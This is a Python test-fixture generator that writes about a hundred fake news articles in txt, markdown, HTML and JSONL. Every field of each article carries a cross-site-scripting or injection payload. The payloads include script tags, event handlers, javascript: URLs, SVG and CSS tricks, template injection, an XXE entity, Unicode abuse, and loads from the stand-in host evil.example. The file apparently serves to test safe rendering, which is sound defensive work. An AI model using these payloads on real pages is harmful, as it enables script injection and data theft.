"""A hundred articles that attack the page on which they are shown, in each of their fields.

Each attack would call `pwn`, ask `evil.example` for something, or spoil how the page looks.
"""

import json
import random
import re
from pathlib import Path

EVIL = "evil.example"
GOOD = "https://news.example/story?'onclick='pwn(1)';&quot;=javascript:pwn(2)#${pwn(3)}"

# The N of each is its number.
ATTACKS = (
    # Scripts.
    "<script>pwn(N)</script>",
    "<SCRIPT SRC=//evil.example/N.js></SCRIPT>",
    "</script><script>pwn(N)//",
    "</title></textarea></style></noscript></template><script>pwn(N)</script>",
    "<scr<script>ipt>pwn(N)</scr</script>ipt>",
    "<script type=module>import 'https://evil.example/N.js'</script>",
    "<script\n>pwn(N)</script\n>",
    "<noscript><p title='</noscript><img src=x onerror=pwn(N)>'>",
    "<iframe srcdoc='<script>parent.pwn(N)</script>'></iframe>",
    "<iframe src=javascript:parent.pwn(N)>",
    "<object data='data:text/html,<script>parent.pwn(N)</script>'></object>",
    "<embed src=//evil.example/N.swf>",
    "&lt;script&gt;pwn(N)&lt;/script&gt;",
    "&#60;img src=x onerror=pwn(N)&#62;",
    "%3Cscript%3Epwn(N)%3C/script%3E",
    "\\u003cscript\\u003epwn(N)\\u003c/script\\u003e",
    "\uff1cscript\uff1epwn(N)\uff1c/script\uff1e",
    # Events.
    "<img src=x onerror=pwn(N)>",
    "<img src=x onerror='pwn(N)'//>",
    "<IMG SRC=x OnErRoR=pwn(N)>",
    "<img/src=x/onerror=pwn(N)>",
    "<img src=https://evil.example/N.png>",
    "<img srcset='https://evil.example/N.png 1x' sizes=1px>",
    "<body onload=pwn(N)>",
    "<video><source onerror=pwn(N)></video>",
    "<audio src=x onerror=pwn(N)>",
    "<details open ontoggle=pwn(N)>x</details>",
    "<input autofocus onfocus=pwn(N)>",
    "<select autofocus onfocus=pwn(N)></select>",
    "<textarea autofocus onfocus=pwn(N)>",
    "<button popovertarget=x onclick=pwn(N)>y</button><div popover id=x onbeforetoggle=pwn(N)>",
    "<marquee onstart=pwn(N)>x</marquee>",
    "<div onpointerenter=pwn(N) onmouseover=pwn(N) style=position:fixed;inset:0>x</div>",
    "<p tabindex=1 onfocus=pwn(N) autofocus>x</p>",
    "<xss contenteditable onbeforecopy=pwn(N) onanimationend=pwn(N) style=animation:pulse>x</xss>",
    # Out of an attribute.
    "\" onmouseover=\"pwn(N)\" x=\"",
    "' onmouseover='pwn(N)' x='",
    "\"><img src=x onerror=pwn(N)>",
    "'><svg onload=pwn(N)>",
    "` onmouseover=`pwn(N)` x=`",
    "\" autofocus onfocus=pwn(N) tabindex=0 \"",
    "x data-article=\"0\" data-example=\"0\" data-again=\"0\" class=\"back\"",
    "\" style=\"position:fixed;inset:0;z-index:99\" x=\"",
    # Addresses.
    "javascript:pwn(N)",
    "JaVaScRiPt:pwn(N)",
    "java\tscript:pwn(N)",
    " javascript:pwn(N)",
    "<a href=javascript:pwn(N)>read on</a>",
    "<a href='data:text/html,<script>pwn(N)</script>'>read on</a>",
    "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=N",
    "vbscript:pwn(N)",
    "//evil.example/N",
    "https://good.example@evil.example/N",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/N.css>",
    "<link rel=prefetch href=https://evil.example/N>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/N'>",
    "<form action=https://evil.example/N><button>Send</button></form>",
    "<form id=turns><input name=dataset><input name=querySelector></form>",
    # Drawings.
    "<svg onload=pwn(N)>",
    "<svg><script>pwn(N)</script></svg>",
    "<svg><animate onbegin=pwn(N) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwn(N)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn(N)></svg>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=pwn(N)></foreignObject></svg>",
    "<svg><style><img src=x onerror=pwn(N)></style></svg>",
    "<math><mtext><img src=x onerror=pwn(N)></mtext></math>",
    "<math href=javascript:pwn(N)>x</math>",
    "<![CDATA[<img src=x onerror=pwn(N)>]]>",
    "<!--><img src=x onerror=pwn(N)>-->",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"https://evil.example/N\">]><x>&y;</x>",
    # Style sheets.
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/N.css';</style>",
    "<style>#left{background:url(https://evil.example/N)}</style>",
    "<div style=\"width:expression(pwn(N));background:url(javascript:pwn(N))\">x</div>",
    "</style><style>body{visibility:hidden}",
    "<p class=\"panel card gradio-container\" style=\"font-size:900px;width:9000px\">x</p>",
    # Markdown.
    "[read on](javascript:pwn(N))",
    "![x](https://evil.example/N.png)",
    "![x\"onerror=\"pwn(N)](x)",
    "[x](<javascript:pwn(N)> \"t\")",
    "[x][y]\n\n[y]: javascript:pwn(N)",
    "<https://evil.example/N>",
    "```html\n<img src=x onerror=pwn(N)>\n```",
    "$$\\href{javascript:pwn(N)}{x}$$ \\unicode{<img src=x onerror=pwn(N)>}",
    "| a | b |\n|---|---|\n| <img src=x onerror=pwn(N)> | x |",
    # Templates and expressions.
    "${pwn(N)}",
    "${constructor.constructor('pwn(N)')()}",
    "{{pwn(N)}} {{{value}}} {{#each value}}{{this}}{{/each}}",
    "{{constructor.constructor('pwn(N)')()}}",
    "{% pwn(N) %} <%= pwn(N) %> #{pwn(N)} @children",
    "datum[\"constructor\"]+pwn(N) && event.view.pwn(N)",
    "\"]; pwn(N); [\"",
    "');pwn(N);//",
    "__proto__",
    # Letters.
    "\u202e\u2066gnihton si siht (N)nwp\u202c mayor",
    "\u200bp\u200bw\u200bn\u2060(N)\ufeff\u00ad\u180e zero width",
    "\x00\x1b[2J\x07\x08\x7f\x9b31m control (N)",
    "Z\u0351\u0366\u0342\u0346" * 40 + " combining (N)",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dd \u200f(N)\u200f <img src=x onerror=pwn(N)>",
    "W" * 3_000,
    "<" * 300 + "&" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 80,
)  # fmt: skip
# The names of files, in which a "/" cannot be.
_FILES = 20
_THINGS = (
    "harbour",
    "ferry",
    "council",
    "bridge",
    "dairy",
    "prize",
    "choir",
    "museum",
    "tram",
    "orchard",
    "festival",
    "school",
    "engineer",
    "mayor",
    "budget",
    "library",
    "flood",
    "railway",
    "market",
    "bakery",
    "theatre",
    "garden",
    "pilot",
    "court",
    "strike",
    "forest",
    "mine",
    "river",
    "castle",
    "doctor",
    "storm",
    "glacier",
    "sailor",
    "teacher",
    "farmer",
    "union",
    "minister",
    "painter",
    "stadium",
    "comet",
    "island",
    "bicycle",
    "hospital",
)


def attack(number: int) -> str:
    """The attack of that number."""
    return re.sub(r"\bN\b", str(number), ATTACKS[number % len(ATTACKS)])


def fact(number: int) -> str:
    """The sentence of that article that is no attack; unlike that of any other."""
    one, two, three, *others = random.Random(number).sample(_THINGS, 7)
    rest = ", ".join(others)
    return f"The {one} of {two} {number} cost {number + 1_000} crowns; the {three} had {rest}."


def write(folder: Path) -> int:
    """Writes files with the articles into a folder; how many there are."""
    for number in range(_FILES):
        name = "".join(each for each in attack(5 * number) if each not in "/\0")[:100]
        form = ("txt", "md", "html")[number % 3]
        (folder / f"{number} {name}.{form}").write_text(_file(number, form), encoding="utf-8")
    rows = [json.dumps(_row(number)) for number in range(_FILES, len(ATTACKS))]
    # A table of somebody's, and what `citewell export` wrote: its fields are taken as they are.
    (folder / "table.jsonl").write_text("\n".join(rows[::2]), encoding="utf-8")
    exported = ({"citewell": 1, **json.loads(row), "url": GOOD} for row in rows[1::2])
    (folder / "exported.jsonl").write_text("\n".join(map(json.dumps, exported)), encoding="utf-8")
    return len(ATTACKS)


def _row(number: int) -> dict[str, object]:
    bad = attack(number)
    return {
        "source": f"{bad}#{number}",
        "title": bad,
        "authors": [bad, "Ada Holm"],
        "publisher": bad,
        "published": f"{2000 + number % 25}-0{1 + number % 9}-11",
        "url": bad,
        "language": bad[:40],
        "metadata": {bad[:300]: bad, "section": bad},
        "text": f"{fact(number)}\n\n{bad}\n\nBehind it, all was quiet, {number} people said.",
    }


def _file(number: int, form: str) -> str:
    bad = attack(number)
    if form == "html":
        return (
            f"<!doctype html><html lang=en><head><meta charset=utf-8><title>Story {number}</title>"
            f'<meta name=author content="{_escaped(bad)}"><meta property=og:site_name '
            f'content="{_escaped(bad)}"></head><body><article><h1>{_escaped(bad)}</h1>'
            f"<p>{fact(number)}</p><p>{_escaped(bad)}</p>{bad}</article></body></html>"
        )
    if form == "md":
        known = {"title": bad, "author": bad, "publisher": bad, "url": bad, "language": bad[:40]}
        front = "\n".join(f"{key}: {json.dumps(each)}" for key, each in known.items())
        return f"---\n{front}\nsection: {json.dumps(bad)}\n---\n\n{fact(number)}\n\n{bad}\n"
    return f"{bad}\n\n{fact(number)}\n\n{bad}\n"


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
